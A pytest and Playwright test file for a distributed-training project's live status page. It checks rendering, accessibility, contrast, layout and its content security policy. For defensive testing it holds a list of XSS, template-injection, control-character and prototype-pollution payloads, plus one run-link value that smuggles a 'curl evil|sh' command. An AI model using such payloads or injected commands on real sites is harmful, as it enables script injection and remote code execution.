"""The page in a real browser: what it shows, what a stranger's texts may not do, and who can use it."""

import random
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from flockstep.collectives.picture.fold import VOTED
from flockstep.peer.base.troubles import NEEDS_PROGRAM
from flockstep.peer.log.telemetry import Telemetry
from flockstep.scripts.page.page import unseen
from flockstep.scripts.page.server import PageServer
from flockstep.scripts.page.shown import NAMED_BEFORE, Page, PictureSplitter
from support.fake_runs import FakeRun, peer_id
from support.pictures import big_picture

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
playwright = pytest.importorskip("playwright.sync_api", reason="playwright drives the browser (the extra `dev`)")
expect = playwright.expect
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this computer: apt install chromium")

STATIC = Path(__file__).parents[2] / "scripts" / "page" / "static"
DESKTOP, PHONE = {"width": 1180, "height": 900}, {"width": 360, "height": 740}
EVIL = (
    "<img src=x onerror=pwned=1>",
    "<script>pwned=1</script>",
    "</code><h1 onclick=pwned=1>big</h1>",
    "javascript:pwned=1",
    "{{7*7}} ${pwned=1} `%s`",
    "\x1b[31mred\x1b[0m\x07\x00",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "מאמן الشبكة",
    "__proto__",
    "x" * 1_000_000,
    "\ud800\udc00\ud800",
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


Open = Callable[..., Any]


@pytest.fixture
def opened(browser: Any) -> Iterator[Open]:
    """Opens a page in a browser of its own; whatever the console says fails the test."""
    contexts: list[Any] = []
    complaints: list[str] = []

    def opened_(url: str, *, silent: bool = True, **options: Any) -> Any:
        context = browser.new_context(**{"viewport": DESKTOP, **options})
        contexts.append(context)
        page = context.new_page()
        page.add_init_script("const wait = setTimeout; globalThis.setTimeout = (work, ms) => wait(work, ms / 40);")
        if silent:
            page.on("console", lambda message: complaints.append(message.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.goto(url)
        page.wait_for_selector("#live[data-state=live]")
        return page

    yield opened_
    for context in contexts:
        context.close()
    lost = ("net::ERR_", "Failed to fetch")  # The server of a test may end before its page.
    assert [text for text in complaints if not any(part in text for part in lost)] == []


@pytest.fixture
def run() -> FakeRun:
    run = FakeRun(peers=6, planned=40)
    run.advance(20)
    return run


@pytest.fixture
def server(run: FakeRun) -> Iterator[PageServer]:
    with PageServer("127.0.0.1:0", Telemetry(), root=run.picture) as server:
        yield server


def test_the_page_shows_a_run_and_each_change_of_it(opened: Open, server: PageServer, run: FakeRun) -> None:
    page = opened(server.url)
    assert page.inner_text("#name") == "a small model of Python"
    assert page.title() == "a small model of Python – flockstep"
    assert page.inner_text("#progress-text") == "round 20 of 40, 50 %, 4 min 20 s left"
    assert page.inner_text("#join-line").startswith("flockstep join 'flockstep://bafyrun")
    assert page.inner_text("#votes-text") == "3 of 4 votes are here, and 3 decide."
    assert page.locator("#people tbody tr").count() == 6
    assert page.locator("#rounds tbody tr").count() == 12
    assert page.locator("#chart canvas").count() == 1
    assert "parser.run(arguments)" in page.inner_text("#sample")
    row = page.locator("#rounds tbody tr").first.element_handle()
    run.advance()
    server.publish(Page(run.picture))
    expect(page.locator("#progress-text")).to_have_text(re.compile("^round 21 "))
    assert page.locator("#rounds tbody th").first.inner_text() == "21"
    assert row.evaluate("row => row.isConnected && row.cells[0].textContent") == "20"  # It moved, as the element it was.
    run.advance(19)
    server.publish(Page(run.picture))
    expect(page.locator("#state")).to_have_text("over")
    assert page.inner_text("#reason") == "All rounds are done"


def test_the_page_of_a_run_that_takes_a_program_shows_how_and_the_link_alone(opened: Open, run: FakeRun) -> None:
    with PageServer("127.0.0.1:0", Telemetry(), root={**run.picture, "joining": str(NEEDS_PROGRAM)}) as server:
        page = opened(server.url)
        assert page.inner_text("#join-how") == str(NEEDS_PROGRAM)
        assert page.inner_text("#join-line").startswith("flockstep://bafyrun")
        server.publish(Page(run.picture))
        expect(page.locator("#join-how")).to_contain_text("any network, no open port")
        expect(page.locator("#join-line")).to_contain_text("flockstep join 'flockstep://bafyrun")


def test_a_page_before_the_first_round_and_without_anybody_says_so(opened: Open) -> None:
    with PageServer("127.0.0.1:0", Telemetry(), root={"progress": {"state": "waiting", "reason": "no answer"}}) as server:
        page = opened(server.url)
        assert page.inner_text("#reason") == "No answer"
        assert page.inner_text("#chart-text") == "The curve begins with the first round."
        assert page.inner_text("#people-text") == "Nobody is here at the moment."


def test_a_visitor_reads_what_the_run_is_and_nothing_that_only_auditors_check(
    opened: Open, server: PageServer, run: FakeRun
) -> None:
    page, picture = opened(server.url), run.picture
    expect(page.locator("#scrub-text")).to_contain_text("two members state this text ~")
    members = [{**one, "name": f"ada {place}"} for place, one in enumerate(picture["members"])]
    alone = [{**picture["evaluations"][-1], "by": [members[0]["peer"]]}]
    about = {"by": "Ada Example", "contact": "ada@example.org", "data": "text:{stdlib}", "members": members}
    untimed = {**picture["rounds"], "time": [None] * len(picture["rounds"]["time"])}
    waits = {**picture["progress"], "state": "waiting", "reason": "waits for its owner"}
    server.publish(Page({**picture, **about, "rounds": untimed, "progress": waits, "evaluations": alone}))
    asked = "on Python's standard library, in 40 rounds, asked for by Ada Example, ada@example.org ~"
    expect(page.locator("#what")).to_contain_text(asked)
    expect(page.locator("#reason.notice")).to_have_text("Waits for its owner")
    assert page.inner_text("#live") == "page up to date"
    assert page.locator("#scrub").is_hidden()
    assert "as ada 0 alone states it ~" in page.inner_text("#scrub-text")
    assert "stated by 1;" in page.inner_text("#tiles")
    marks = page.locator("#people tbody th > bdi:first-child").all_inner_texts()
    assert {mark.strip() for mark in marks} == {"◆", ""}  # Without the end of an id, since the names differ.
    assert re.match(r"round\D*20", page.inner_text(".u-legend"))  # The last point, and no row of dashes.
    heads = page.locator("#rounds thead th:visible").all_inner_texts()
    assert heads == ["round", "loss~", "took part", "left out, and why"]
    page.check("#audits")
    assert page.locator("#rounds thead th:visible").count() > len(heads)
    (first, second) = page.locator(".steps li").all_inner_texts()
    assert "pip install ." in first
    assert "flockstep join" in second


def test_the_reason_of_keepers_is_the_one_that_the_page_leaves_out() -> None:
    assert f'const VOTED = "{VOTED}";' in (STATIC / "rounds.js").read_text(encoding="utf-8")


def hostile(picture: Any, text: str) -> Any:
    """The picture with the text wherever a stranger could write one."""
    if isinstance(picture, dict):
        named = {text if key == peer_id(3) else key: value for key, value in picture.items()}
        return {key: hostile(value, text) for key, value in named.items()}
    if isinstance(picture, list):
        return [hostile(item, text) for item in picture]
    return text if isinstance(picture, str) else picture


def test_whatever_strangers_write_is_text(opened: Open, server: PageServer, run: FakeRun) -> None:
    page, picture = opened(server.url, viewport=PHONE), run.picture
    count = "document.querySelectorAll('main img, script:not([src]), main h1, main a, main [onclick], main iframe').length"
    before = page.evaluate(count)
    for number, text in enumerate(EVIL):
        evil = hostile(
            {name: picture[name] for name in ("votes", "evaluations", "credit", "troubles", "members")}, text[:9000]
        )
        for member in evil["members"]:  # A member's id is one row.
            member["peer"] = text[:9000] + str(random.random())
        evil |= dict.fromkeys(("name", "model", "link", "owner", "decides", "verified", "flockstep"), text)
        evil["progress"] = {**picture["progress"], "reason": text, "state": text}
        rows = 2 + number % 2  # Another number each time: so this text is shown, and not the one before.
        evil["recent"] = [{**row, "out": [{"peer": 0, "reason": text}]} for row in picture["recent"][:rows]]
        server.publish(Page({**picture, **evil}))
        expect(page.locator("#rounds tbody tr")).to_have_count(rows)
        assert page.evaluate(count) == before
        assert page.evaluate("window.pwned") is None
        assert page.evaluate("({}).polluted === undefined && Object.prototype.name === undefined")
        assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
        shown = page.evaluate("document.body.innerText")
        assert len(shown) < 100_000
        assert not set("\x1b\x07\x00\u202e\u2066\u200b\ufeff") & set(shown)


def test_the_policy_really_blocks(opened: Open, server: PageServer) -> None:
    page = opened(server.url, silent=False)
    blocked = """async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
      const node = document.createElement("div");
      let markup = "taken";
      try { node.innerHTML = "<b>markup</b>"; } catch { markup = "refused"; }
      const script = document.createElement("script");
      try { script.text = "window.inline = 1"; document.body.append(script); } catch {}
      node.setAttribute("style", "color: red");
      const image = new Image(), refused = () => "refused";
      const loaded = new Promise((done) => { image.onload = () => done("loaded"); image.onerror = () => done("refused"); });
      image.src = "http://127.0.0.2:9/x.png";
      const fetched = await fetch("http://127.0.0.2:9/").then(() => "fetched", refused);
      return [markup, window.inline ?? "refused", node.style.color || "refused", await loaded, fetched, violations.sort()];
    }"""
    *outcomes, violations = page.evaluate(blocked)
    assert outcomes == ["refused"] * 5
    assert {"connect-src", "img-src", "require-trusted-types-for", "style-src-attr"} <= set(violations)


def test_everything_can_be_reached_by_keyboard_and_is_seen(opened: Open, server: PageServer) -> None:
    page = opened(server.url, permissions=["clipboard-read", "clipboard-write"])
    seen: list[str] = []
    for _ in range(40):
        page.keyboard.press("Tab")
        ident, outline = page.evaluate(
            """() => { const node = document.activeElement, style = getComputedStyle(node);
            const name = node.id || node.value || node.getAttribute("aria-labelledby") || node.className;
            return [node === document.body ? "" : name || node.textContent,
                    parseFloat(style.outlineWidth) > 0 && style.outlineStyle !== "none"]; }"""
        )
        if not ident or ident in seen:  # The end, or the beginning again.
            break
        assert outline, ident
        seen.append(ident)
    wanted = ("skip", "round", "chart", "scrub", "copy", "people-caption", "rounds-box", "rounds-more")
    assert [name for name in seen if name in wanted] == list(wanted)
    page.focus(".skip")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "curve"
    page.focus("input[value=round]")
    page.keyboard.press("ArrowRight")
    assert page.inner_text(".u-legend .u-series:first-child").startswith("tokens")
    page.focus("#chart")
    page.keyboard.press("Home")
    assert page.get_attribute("#chart", "aria-valuetext").startswith("round 1, ")
    page.keyboard.press("ArrowRight")
    assert page.get_attribute("#chart", "aria-valuetext").startswith("round 2, ")
    page.focus("#scrub")
    page.keyboard.press("Home")
    assert page.inner_text("#scrub-text").startswith("after round 2, ")
    page.focus("#rounds-more")
    page.keyboard.press("Enter")
    assert page.locator("#rounds tbody tr").count() == 20
    assert page.get_attribute("#rounds-more", "aria-expanded") == "true"
    page.focus("#copy")
    page.keyboard.press("Enter")
    expect(page.locator("#copied")).to_have_text(re.compile("^Copied"))
    assert page.evaluate("navigator.clipboard.readText()") == page.inner_text("#join-line")


def test_a_name_is_not_taken_for_the_mark_of_a_vote(opened: Open, server: PageServer, run: FakeRun) -> None:
    page, members = opened(server.url), run.picture["members"]
    server.publish(Page({**run.picture, "members": [{**member, "name": "◆ ada"} for member in members]}))
    marks = "cells => cells.map(cell => [cell.firstChild.textContent, cell.querySelector('.own').textContent])"
    expect(page.locator("#people tbody .own").first).to_have_text("◆ ada")
    shown = page.locator("#people tbody th").evaluate_all(marks)
    assert {name for _, name in shown} == {"◆ ada"}
    assert sum(text.startswith("◆") for text, _ in shown) == sum(member["votes"] > 0 for member in members)


def test_what_is_no_link_cannot_be_copied(opened: Open, server: PageServer, run: FakeRun) -> None:
    page = opened(server.url)
    for run_id in ("x'; curl evil|sh; '", "", "b" * 51, "b" * 52 + "\n"):
        server.publish(Page(run.picture))
        expect(page.locator("#join-line")).to_contain_text("flockstep join")
        server.publish(Page({**run.picture, "link": f"flockstep://{run_id}?via=/ip4/192.0.2.7/tcp/4001/p2p/{peer_id(99)}"}))
        expect(page.locator("#join-line")).to_have_text("The link of this run is not known yet.")
        assert page.locator("#copy").is_disabled()


def test_a_screen_reader_finds_landmarks_captions_and_names(opened: Open, server: PageServer) -> None:
    page = opened(server.url)
    nameless = """() => [...document.querySelectorAll(
        "table:not(.u-legend), section, input, button, progress, [role=region]")]
      .filter((node) => !(node.caption ?? node.labels?.[0] ?? node).textContent.trim() && !node.getAttribute("aria-label")
        || node.tagName === "TABLE" && !node.caption
        || [node.getAttribute("aria-labelledby")].some((id) => id && !document.getElementById(id)))
      .map((node) => node.outerHTML)"""
    assert page.evaluate(nameless) == []
    for landmark in ("header", "main", "footer"):
        assert page.locator(landmark).count() == 1
    assert page.locator("#people th[scope=col]").count() == 11
    assert page.locator("#people th[scope=row]").count() == 6
    assert page.locator("#people .strip [role=img]").first.get_attribute("aria-label").startswith("work in ")
    assert page.locator("[role=status]").count() >= 2
    assert page.evaluate("document.documentElement.lang") == "en"


@pytest.mark.parametrize(("width", "label"), [(1400, "1004.5"), (360, "1004")])
def test_no_label_and_no_table_is_cut(opened: Open, server: PageServer, run: FakeRun, width: int, label: str) -> None:
    page, picture = opened(server.url, viewport={"width": width, "height": 900}), run.picture
    named = {"name": "a name of sixty-four characters " * 2, "device": "NVIDIA GeForce RTX 4090 Laptop GPU"}
    rounds = {**picture["rounds"], "loss": [loss + 1000 for loss in picture["rounds"]["loss"]]}
    members = [{**one, **named} for one in picture["members"]]
    server.publish(Page({**picture, "rounds": rounds, "members": members, "evaluations": []}))
    expect(page.locator("#chart-text")).to_contain_text("from 1004.")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    cut = """() => [...document.querySelectorAll(".wide")]
      .filter((box) => box.scrollWidth > box.clientWidth).map((box) => box.innerText)"""
    assert page.evaluate(cut) == []
    has_room = """(label) => { const axis = document.querySelectorAll(".u-axis")[1];
      const { width } = document.querySelector("canvas").getContext("2d").measureText(label);
      return width / devicePixelRatio + 15 <= axis.clientWidth; }"""
    assert page.evaluate(has_room, label)


def test_who_comes_late_reads_from_which_round_on_figures_are(opened: Open, server: PageServer, run: FakeRun) -> None:
    page, picture = opened(server.url), run.picture
    assert "from round" not in page.inner_text("#credit-text")
    expect(page.locator("#samples-since")).to_have_text("")
    columns = {name: column[4:] for name, column in picture["rounds"].items()}
    columns["loss"] = [None, None, *columns["loss"][2:]]
    server.publish(Page({**picture, "rounds": columns, "evaluations": []}))
    expect(page.locator("#credit-text")).to_have_text("The tokens that certificates count, from round 5 on.")
    expect(page.locator("#tiles")).to_contain_text(" in round 7")
    expect(page.locator("#chart-text")).to_contain_text(" in round 7 to ")
    late = [{**picture["evaluations"][-1], "round": round_} for round_ in (45, 50, 60)]
    server.publish(Page({**picture, "evaluations": late}))
    expect(page.locator("#samples-since")).to_have_text(" Seen here since round 45.")


def test_it_fits_a_phone_and_follows_the_colours_of_the_system(opened: Open, server: PageServer) -> None:
    backgrounds = set()
    for scheme in ("light", "dark"):
        page = opened(server.url, viewport=PHONE, color_scheme=scheme)
        assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
        backgrounds.add(page.evaluate("getComputedStyle(document.body).backgroundColor"))
        assert page.evaluate(CONTRAST) == []
    assert len(backgrounds) == 2


CONTRAST = """() => {
  const light = (colour) => { const [r, g, b] = colour.match(/[\\d.]+/g).map((part) => { const c = part / 255;
    return c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const behind = (node) => { for (; node; node = node.parentElement) { const colour = getComputedStyle(node).backgroundColor;
    if (!colour.endsWith(", 0)")) return colour; } };
  return [...document.querySelectorAll("body *")].filter((node) => node.checkVisibility() &&
      [...node.childNodes].some((child) => child.nodeType === Node.TEXT_NODE && child.textContent.trim()))
    .filter((node) => { const [a, b] = [light(getComputedStyle(node).color), light(behind(node))].sort((x, y) => y - x);
      return (a + 0.05) / (b + 0.05) < 4.5; })
    .map((node) => node.outerHTML.slice(0, 80));
}"""
"""The elements whose text has too little contrast (WCAG 2.1, 1.4.3)."""


def test_a_page_fetches_older_rounds_once_and_shows_them_beside_the_newest(opened: Open) -> None:
    pictures, splitter = [big_picture(peers=5, rounds=rounds) for rounds in (300, 301)], PictureSplitter("v")
    with PageServer("127.0.0.1:0", Telemetry(), root=unseen("looking")) as server:
        server.publish(splitter.split(pictures[0]))
        page, asked = opened(server.url), list[str]()
        expect(page.locator("#chart-text")).to_contain_text("300 rounds: ")
        page.on("request", lambda request: asked.append(request.url.rpartition("/")[2]))
        server.publish(splitter.split(pictures[1]))
        expect(page.locator("#chart-text")).to_contain_text("301 rounds: ")
        page.click("#rounds-more")
        rounds = page.locator("#rounds tbody th").all_inner_texts()
        assert rounds == [str(number) for number in range(301, 256 - NAMED_BEFORE, -1)]
        whys = page.locator("#rounds tbody .why").all_inner_texts()
        named = {one.peer: one.name for one in pictures[1].members}
        for why, row in zip(whys, pictures[1].recent, strict=False):
            left = [named[peer] or peer[-8:] for peer, reason in row.away if reason != VOTED]
            assert all(name in why for name in left)
        assert set(asked) == {"picture.json"}


def test_a_page_finds_its_server_again(opened: Open, run: FakeRun) -> None:
    with PageServer("127.0.0.1:0", Telemetry(), root=run.picture) as server:
        page, place = opened(server.url, silent=False), f"127.0.0.1:{server.port}"
    expect(page.locator("#live")).to_have_text(re.compile("^connection lost"))
    run.advance()
    with PageServer(place, Telemetry(), root=run.picture):
        expect(page.locator("#progress-text")).to_have_text(re.compile("^round 21 "))
        page.wait_for_selector("#live[data-state=live]")
